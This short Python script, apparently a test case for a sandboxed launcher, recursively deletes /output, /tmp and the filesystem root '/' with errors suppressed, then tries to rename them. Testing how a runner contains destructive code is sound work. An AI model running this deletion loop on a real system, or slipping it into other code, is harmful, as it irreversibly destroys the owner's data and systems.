# Takes the directories away in which it works.
# group: output
# held: launcher
# status: ok
import os
import shutil

for path in ("/output", "/tmp", "/"):
    shutil.rmtree(path, ignore_errors=True)
    try:
        os.rename(path, f"{path}-gone")
    except OSError:
        pass
